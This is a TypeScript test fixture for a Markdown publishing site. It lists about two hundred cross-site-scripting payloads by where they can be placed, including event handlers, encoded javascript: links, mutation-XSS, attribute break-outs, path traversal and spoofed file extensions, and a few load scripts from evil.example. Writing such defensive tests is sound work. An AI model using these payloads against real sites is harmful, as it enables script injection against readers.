/** Where somebody who wants to run a script in a reader's browser may write it. */
export type Place =
	| 'body'
	| 'alt'
	| 'directive'
	| 'title'
	| 'summary'
	| 'tag'
	| 'author'
	| 'caption'
	| 'file-name'
	| 'place'
	| 'motto'
	| 'column-title'
	| 'link-address';

/** One attempt. In `body`, `alt` and `directive` the text is a whole body, elsewhere the value of that field. */
export interface Vector {
	name: string;
	where: Place;
	text: string;
}

const body = (name: string, text: string): Vector => ({ name, where: 'body', text });
const alt = (name: string, text: string): Vector => ({ name, where: 'alt', text });
const directive = (name: string, text: string): Vector => ({ name, where: 'directive', text });
const field = (where: Place, name: string, text: string): Vector => ({ name, where, text });

const elements: Vector[] = [
	body('script block', '<script>alert(1)</script>'),
	body('script in a paragraph', '甲 <script>alert(1)</script> 乙'),
	body('script in capitals with spaces', '< script >alert(1)</ script >\n\n<SCRIPT\n>alert(1)</SCRIPT\n>'),
	body('script with a source', '<script src=//evil.example/x.js></script>'),
	body('script split by a slash', '<script/x>alert(1)</script/x>'),
	body('script inside script', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
	body('script never closed', '<script>alert(1)'),
	body('tag never closed', '<img src=x onerror=alert(1)//'),
	body('tag broken over lines', '<img\nsrc=x\nonerror=alert(1)\n>'),
	body('image with handler', '<img src=x onerror=alert(1)>'),
	body('image with handler after a slash', '<img/src=x/onerror=alert(1)>'),
	body('image with handler in entities', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>'),
	body('image with backtick handler', '<img src=`x` onerror=`alert(1)`>'),
	body('image with srcset', '<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>'),
	body('svg with onload', '<svg onload=alert(1)>'),
	body('svg with script', '<svg><script>alert(1)</script></svg>'),
	body('svg with script over the namespace', '<svg><script xlink:href="data:,alert(1)" /></svg>'),
	body(
		'svg animation of a link',
		'<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>点</text></a></svg>',
	),
	body(
		'svg use',
		'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
	),
	body('svg foreignObject', '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>'),
	body('math link', '<math><a xlink:href="javascript:alert(1)">点</a></math>'),
	body(
		'math mutation',
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	),
	body('form mutation', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
	body('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
	body(
		'template mutation',
		'<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector("template").content)</script>',
	),
	body('textarea break-out', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
	body('title break-out', '</title><script>alert(1)</script>'),
	body('style break-out', '<style></style><img src=x onerror=alert(1)></style>'),
	body('xmp break-out', '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>'),
	body('comment break-out', '--><img src=x onerror=alert(1)><!--'),
	body('comment that ends at once', '<!--><img src=x onerror=alert(1)>-->'),
	body('comment that ends with a bang', '<!-- --!><img src=x onerror=alert(1)> -->'),
	body('conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'),
	body('CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'),
	body('CDATA in svg', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'),
	body(
		'processing instruction',
		'<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>\n\n<? ><img src=x onerror=alert(1)>',
	),
	body('doctype', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;'),
	body('iframe', '<iframe src=javascript:alert(1)></iframe>'),
	body('iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
	body(
		'iframe srcdoc in entities',
		'<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert&lpar;1&rpar;&gt;"></iframe>',
	),
	body(
		'object',
		'<object data=javascript:alert(1)></object><object data="data:text/html,<script>alert(1)</script>"></object>',
	),
	body('embed', '<embed src=javascript:alert(1)><embed code="//evil.example/x.swf" allowscriptaccess=always>'),
	body(
		'applet and frames',
		'<applet code=x></applet><frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
	),
	body('base', '<base href="javascript:alert(1)//"><a href="#">点</a>'),
	body('base to another host', '<base href=https://evil.example/>'),
	body('meta refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
	body('meta policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
	body('link to a style sheet', '<link rel=stylesheet href=javascript:alert(1)><link rel=import href=//evil.example>'),
	body('link preload', '<link rel=preload as=script href=x onload=alert(1)>'),
	body('style element', '<style>@import "javascript:alert(1)"; body{background:url(javascript:alert(1))}</style>'),
	body('style attribute', '<p style="background:url(javascript:alert(1));width:expression(alert(1))">甲</p>'),
	body('form with an action', '<form action=javascript:alert(1)><input type=submit value=点></form>'),
	body('button with formaction', '<form><button formaction=javascript:alert(1)>点</button></form>'),
	body('input that focuses itself', '<input autofocus onfocus=alert(1)>'),
	body('select that focuses itself', '<select autofocus onfocus=alert(1)><option>1</select>'),
	body('details that opens itself', '<details open ontoggle=alert(1)><summary>点</summary></details>'),
	body('marquee', '<marquee onstart=alert(1)>甲</marquee>'),
	body('video with handler', '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>'),
	body('video poster', '<video poster=javascript:alert(1)//></video>'),
	body('body with handlers', '<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>'),
	body('animation handler', '<p style="animation:x" onanimationstart=alert(1)>甲</p>'),
	body('popover', '<button popovertarget=x>点</button><div popover id=x onbeforetoggle=alert(1)>甲</div>'),
	body('custom element', '<x-y contenteditable onblur=alert(1) tabindex=0 autofocus>甲</x-y>'),
	body(
		'dialog and clobbering',
		'<form name=document><input name=cookie></form><a id=location href=javascript:alert(1)>点</a>',
	),
	body('portal and slot', '<portal src=javascript:alert(1)></portal><slot onslotchange=alert(1)></slot>'),
	body('html in a heading', '## <img src=x onerror=alert(1)> 标题'),
	body('html in a link', '[<img src=x onerror=alert(1)>](https://a.example)'),
	body(
		'html in a table',
		'| 甲 | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>alert(1)</script> | <svg onload=alert(1)> |',
	),
	body(
		'html in a list and a quotation',
		'- <img src=x onerror=alert(1)>\n  > <svg onload=alert(1)>\n  >\n  > <script>alert(1)</script>',
	),
	body('html in emphasis', '**<img src=x onerror=alert(1)>** *<b onclick=alert(1)>甲</b>* ~~<svg onload=alert(1)>~~'),
	body('html that Markdown splits', '<div>\n\n*甲* <img src=x\nonerror=alert(1)>\n\n</div>'),
];

const addresses: Vector[] = [
	body('javascript link', '[点](javascript:alert(1))'),
	body('javascript link in capitals', '[点](JaVaScRiPt:alert(1))'),
	body(
		'javascript link with decimal entities',
		'[点](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
	),
	body(
		'javascript link with hexadecimal entities',
		'[点](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)) [点](&#x6A;avascript&#x3A;alert(1))',
	),
	body('javascript link with padded entities', '[点](&#0000106;avascript&#0000058;alert(1))'),
	body(
		'javascript link with named entities',
		'[点](java&Tab;script&colon;alert(1)) [点](java&NewLine;script:alert&lpar;1&rpar;)',
	),
	body('javascript link with a tab', '[点](<java\tscript:alert(1)>)'),
	body('javascript link after controls', '[点](<\u0001\u0002 javascript:alert(1)>) [点](&#1;javascript:alert(1))'),
	body('javascript link after spaces', '[点](<   javascript:alert(1)>) [点](<&nbsp;javascript:alert(1)>)'),
	body(
		'javascript link after invisible characters',
		'[点](\u200bjavascript:alert(1)) [点](\ufeffjavascript:alert(1)) [点](java\u00adscript:alert(1))',
	),
	body('javascript link after U+2028', '[点](\u2028javascript:alert(1)) [点](java\u2029script:alert(1))'),
	body('javascript link inside our own marks', '[点](java\ufdd0script:alert(1)) [点](\ufdd1javascript:alert(1))'),
	body('javascript link with escapes', '[点](\\javascript:alert(1)) [点](javascript\\:alert(1))'),
	body(
		'javascript link with percent signs',
		'[点](%6Aavascript:alert(1)) [点](javascript%3Aalert(1)) [点](javascript%253Aalert(1))',
	),
	body('javascript link with a full-width colon', '[点](javascript：alert(1)) [点](ｊａｖａｓｃｒｉｐｔ:alert(1))'),
	body(
		'javascript link that looks like a page',
		'[点](javascript://a.example/%0Aalert(1)) [点](javascript:/*--></title>*/alert(1))',
	),
	body('javascript link with a null', '[点](java\0script:alert(1)) [点](java&#0;script:alert(1))'),
	body('javascript autolink', '<javascript:alert(1)> <JAVASCRIPT:alert(1)>'),
	body('javascript reference', '[点][a] [a]\n\n[a]: javascript:alert(1) "甲"'),
	body('javascript reference after another', '[点][a]\n\n[a]: https://a.example\n[A]: javascript:alert(1)'),
	body('javascript reference over lines', '[点]\n\n[点]:\n  <javascript:alert(1)>\n  "甲"'),
	body('javascript link under bold words', '**[点：](javascript:alert(1))**请'),
	body('javascript link in a heading', '## [点](javascript:alert(1))'),
	body('javascript link in a table', '| [点](javascript:alert(1)) |\n|---|\n| <javascript:alert(1)> |'),
	body('javascript link around a picture', '[![甲](a.jpg)](javascript:alert(1))'),
	body('vbscript link', '[点](vbscript:msgbox(1)) [点](VBSCRIPT&colon;msgbox(1))'),
	body(
		'data link',
		'[点](data:text/html,<script>alert(1)</script>) [点](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	),
	body('data svg link', '[点](data:image/svg+xml,<svg/onload=alert(1)>)'),
	body('blob and filesystem links', '[点](blob:https://a.example/1) [点](filesystem:https://a.example/1)'),
	body(
		'view-source and about links',
		'[点](view-source:javascript:alert(1)) [点](about:blank) [点](jar:https://a.example!/x)',
	),
	body('file link', '[点](file:///C:/Windows/system.ini) [点](C:\\a.hta) [点](\\\\evil.example\\a)'),
	body('program links', '[点](ms-msdt:/id) [点](intent://x#Intent;S.x=alert(1);end) [点](weixin://dl)'),
	body(
		'link to another host without protocol',
		'[点](//evil.example) [点](/\\evil.example) [点](\\/evil.example) [点](/\t/evil.example)',
	),
	body(
		'link address that leaves its quotes',
		'[点](https://a.example/"onmouseover=alert(1)) [点](https://a.example/&quot;onmouseover=alert(1))',
	),
	body(
		'link address with angle brackets',
		'[点](<https://a.example/%22><script>alert(1)</script>>) <https://a.example/"><script>alert(1)</script>',
	),
	body(
		'link title that leaves its quotes',
		'[点](https://a.example "甲&quot; onclick=alert(1) x=&quot;") [点](https://a.example \'"onclick=alert(1) "\')',
	),
	body('link title with a tag', '[点](https://a.example "><script>alert(1)</script>")'),
	body(
		'bare address that leaves its quotes',
		'https://a.example/"onmouseover="alert(1) www.a.example/\'><svg/onload=alert(1)>',
	),
	body(
		'mail address with a script',
		'<a@b.example?subject="><script>alert(1)</script>> [点](mailto:"><script>alert(1)</script>)',
	),
	body(
		'nested brackets',
		'[点[点](javascript:alert(1))](javascript:alert(2)) [![甲](javascript:alert(1))](javascript:alert(1)',
	),
	body('fragment with a tag', '[点](#"><img src=x onerror=alert(1)>) [点](#javascript:alert(1))'),
	field('link-address', 'javascript behind a tab', 'java\tscript:alert(1)'),
	field('link-address', 'javascript behind controls', '\u0000\u001fjavascript:alert(1)'),
	field('link-address', 'javascript in entities', 'java&#115;cript:alert(1)'),
	field('link-address', 'data page', 'data:text/html;charset=utf-8,<script>alert(1)</script>'),
];

const pictures: Vector[] = [
	alt('picture from a script', '![甲](javascript:alert(1))'),
	alt(
		'picture from data',
		'![甲](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![甲](data:text/html,<script>alert(1)</script>)',
	),
	alt('picture from another host', '![甲](https://evil.example/x.png) ![甲](//evil.example/x.png)'),
	alt('picture description that leaves its quotes', '![甲" onerror="alert(1)](a.jpg)'),
	alt(
		'picture description with entities',
		'![甲&quot; onerror=&quot;alert(1)](a.jpg) ![&lt;script&gt;alert(1)&lt;/script&gt;](a.jpg)',
	),
	alt('picture description with a tag', '![<img src=x onerror=alert(1)>](a.jpg)'),
	alt('picture description with a link', '![[点](javascript:alert(1))](a.jpg)'),
	alt('picture title that becomes a caption', '![甲](a.jpg "<img src=x onerror=alert(1)>")'),
	alt('picture title that leaves its quotes', '![甲](a.jpg \'" onload="alert(1)\')'),
	alt('picture name that leaves its quotes', '![甲](<a" onerror="alert(1).jpg>) ![甲](a.jpg"onerror=alert(1))'),
	alt('picture name with srcset', '![甲](<a.jpg 1x, javascript:alert(1) 2x>)'),
	alt('picture outside the folder', '![甲](../../../etc/passwd.jpg) ![甲](..%2f..%2fa.jpg) ![甲](/etc/passwd)'),
	alt('picture by reference', '![甲][b]\n\n[b]: javascript:alert(1)'),
	alt('picture that is an svg', '![甲](a.svg) ![甲](a.svg#<script>alert(1)</script>)'),
];

const marks: Vector[] = [
	body(
		'code language that becomes a class',
		'```js"onmouseover="alert(1)\n甲\n```\n\n```"><script>alert(1)</script>\n甲\n```',
	),
	body('code language with spaces', '~~~ html onload=alert(1) style=x\n<script>alert(1)</script>\n~~~'),
	body(
		'code that closes itself',
		'```html\n</code></pre><script>alert(1)</script>\n```\n\n`</code><script>alert(1)</script>`',
	),
	body('code never closed', '```\n</code></pre><script>alert(1)</script>'),
	body('indented code', '    <script>alert(1)</script>\n    </code></pre><img src=x onerror=alert(1)>'),
	body('footnote name with a tag', '甲[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: 乙'),
	body('footnote name with a handler', '甲[^x"onclick="alert(1)]\n\n[^x"onclick="alert(1)]: 乙'),
	body(
		'footnote with html',
		'甲[^1]\n\n[^1]: <img src=x onerror=alert(1)> [点](javascript:alert(1))\n\n    <script>alert(1)</script>',
	),
	body(
		'table alignment',
		'| 甲 |\n|:-"onclick=alert(1)-:|\n| 乙 |\n\n| 甲 |\n|:---:|\n| </td></table><script>alert(1)</script> |',
	),
	body('heading id', '## 甲 {#x onclick=alert(1) .y style=z}\n\n## "><script>alert(1)</script>'),
	body('heading id that clobbers', '## location\n\n## document\n\n## __proto__\n\n## constructor'),
	body('task list', '- [x] <input onfocus=alert(1) autofocus>\n- [ ] [点](javascript:alert(1))'),
	body(
		'entities that become a tag',
		'&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;svg/onload=alert(1)>',
	),
	body('entities encoded twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'),
	body('full-width brackets', '＜script＞alert(1)＜/script＞ ﹤img src=x onerror=alert(1)﹥'),
	body('line separators', '甲\u2028<img src=x\u2028onerror=alert(1)>\u2029<script>\u2028alert(1)</script>'),
	body('nulls', '<scr\0ipt>alert(1)</scr\0ipt> <img src=x on\0error=alert(1)> \0<svg/onload=alert(1)>'),
	body('bidirectional overrides', '\u202e<script>alert(1)</script>\u202c \u2066[点](javascript:alert(1))\u2069'),
	body('right-to-left link', '[\u200fمرحبا](javascript:alert(1)) \u202egpj.exe'),
	body('half surrogates', '\ud800<img src=x onerror=alert(1)>\udc00 [点](\ud800javascript:alert(1))'),
	body('byte order mark', '\ufeff<script>alert(1)</script>'),
	body(
		'our own marks',
		'<\ufdd0script>alert(1)<\ufdd0/script> \ufdd1<img src=x onerror=alert(1)> <\u2028svg onload=alert(1)>',
	),
	body('marks beside stars', '**<script>：**alert(1)**</script>**甲*（<img src=x onerror=alert(1)>）*乙'),
	body(
		'front matter again',
		'---\ntitle: <script>alert(1)</script>\n---\n\n+++\nx = "<img src=x onerror=alert(1)>"\n+++',
	),
	body(
		'template and MDX signs',
		'{alert(1)} {{constructor.constructor("alert(1)")()}} <% alert(1) %> \u0024{alert(1)}\n\nimport x from "javascript:alert(1)"\n\nexport const y = alert(1)',
	),
	body(
		'the stand-in for the base',
		'[点](/__BASE__/javascript:alert(1)) [点](/__BASE__//evil.example) /__BASE__/"><script>alert(1)</script>',
	),
	body(
		'wiki links and maths',
		'[[javascript:alert(1)]] $<img src=x onerror=alert(1)>$ $$\\href{javascript:alert(1)}{点}$$',
	),
	body('search marks', '甲<mark onclick=alert(1)>乙</mark> data-pagefind-meta="x[onclick]" <p data-pagefind-body>'),
];

const directives: Vector[] = [
	directive('handler on a note', ':::note{onclick=alert(1) style="background:red" .x #y}\n甲\n:::'),
	directive(
		'note title with a tag',
		':::note{title="<img src=x onerror=alert(1)>" type="\\" onclick=alert(1)"}\n<script>alert(1)</script>\n:::',
	),
	directive('note label with html', ':::note[<img src=x onerror=alert(1)> [点](javascript:alert(1))]\n甲\n:::'),
	directive(
		'note type that becomes a class',
		':::note{type="tip\\" onclick=\\"alert(1)"}\n甲\n:::\n\n:::note{type=__proto__}\n甲\n:::',
	),
	directive(
		'file from a script',
		'::file{src="javascript:alert(1)" title="点"} \n\n::file{src="data:text/html,<script>alert(1)</script>"}',
	),
	directive('file title with a tag', '::file{src=报名表.docx title="</span><script>alert(1)</script>"}'),
	directive('file name with a tag', '::file{src="<img src=x onerror=alert(1)>.docx"}'),
	directive(
		'video from a script',
		'::video{src="javascript:alert(1)"}\n\n::video{src=片子.mp4 poster="javascript:alert(1)" onerror=alert(1)}',
	),
	directive(
		'video title that leaves its quotes',
		':::video{src=片子.mp4 title=\'" onplay=alert(1) autoplay x="\'}\n<source src=x onerror=alert(1)>\n:::',
	),
	directive('video from another host', '::video{src=https://evil.example/x.mp4 poster=https://evil.example/x.jpg}'),
	directive(
		'gallery with html',
		':::gallery{onload=alert(1)}\n<img src=x onerror=alert(1)>\n![甲](javascript:alert(1))\n![甲" onerror="alert(1)](a.jpg)\n:::',
	),
	directive(
		'quiz with html',
		':::quiz{ontoggle=alert(1) open}\n<script>alert(1)</script>\n\n- [x] <svg onload=alert(1)>\n- [ ] [点](javascript:alert(1))\n\n<img src=x onerror=alert(1)>\n:::',
	),
	directive(
		'script as a directive',
		':::script\nalert(1)\n:::\n\n::script[alert(1)]{src=//evil.example}\n\n:script[alert(1)]{src=x}',
	),
	directive(
		'iframe as a directive',
		'::iframe{srcdoc="<script>alert(1)</script>"}\n\n:iframe{src=javascript:alert(1)}',
	),
	directive(
		'inherited names as directives',
		':::constructor\n甲\n:::\n\n::__proto__{x=1}\n\n:::toString{__proto__=1 constructor=2}\n乙\n:::',
	),
	directive(
		'handler on an inline directive',
		'甲:span[乙]{onclick=alert(1)} :img{src=x onerror=alert(1)} :a[点]{href=javascript:alert(1)}',
	),
	directive(
		'directive that is never closed',
		':::note{title="甲\n<script>alert(1)</script>\n:::\n\n:::note[甲\n<img src=x onerror=alert(1)>',
	),
];

const fields: Vector[] = [
	field('title', 'script', '<script>alert(1)</script>'),
	field('title', 'title break-out', '甲</title><script>alert(1)</script>'),
	field('title', 'heading break-out', '甲</h1><img src=x onerror=alert(1)>'),
	field('title', 'attribute break-out', '甲" onmouseover="alert(1)'),
	field('title', 'JSON-LD break-out', '甲</script><script>alert(1)</script>'),
	field('title', 'comment break-out', '甲--><svg onload=alert(1)>'),
	field('title', 'XML break-out', '甲]]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
	field('title', 'entities', '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;'),
	field('title', 'template signs', '{alert(1)} {{7*7}} \u0024{alert(1)} <%= 1 %>'),
	field('title', 'bidirectional override', '甲\u202e<script>alert(1)</script>'),
	field('summary', 'script', '乙<script>alert(1)</script>'),
	field('summary', 'meta attribute break-out', '乙"><meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
	field('summary', 'line separators', '乙\u2028<img src=x onerror=alert(1)>\u2029'),
	field('summary', 'Markdown', '[点](javascript:alert(1)) ![甲](x" onerror="alert(1))'),
	field('tag', 'attribute break-out', '"><svg onload=alert(1)>'),
	field('tag', 'query break-out', "'&q=<img src=x>"),
	field('author', 'script', '王<script>alert(1)</script>'),
	field('author', 'handler', "王' onclick='alert(1)"),
	field('caption', 'attribute break-out', '合影" onerror="alert(1)'),
	field('caption', 'tag', '<img src=x onerror=alert(1)>'),
	field('place', 'svg', '<svg/onload=alert(1)>'),
	field('motto', 'style break-out', '</style><script>alert(1)</script>'),
	field('column-title', 'tag', '<b onclick=alert(1)>'),
	field('file-name', 'tag', '<img src=x onerror=alert(1)>.jpg'),
	field('file-name', 'attribute break-out', '甲"onerror="alert(1).jpg'),
	field('file-name', 'query and fragment', '甲?<script>alert(1)<script>#".jpg'),
	field('file-name', 'script as a name', 'javascript:alert(1).docx'),
	field('file-name', 'disguised extension', '报名表\u202excod.exe'),
];

/** Every attempt we know of; a new one is added here and tried everywhere. */
export const vectors: readonly Vector[] = [...elements, ...addresses, ...pictures, ...marks, ...directives, ...fields];
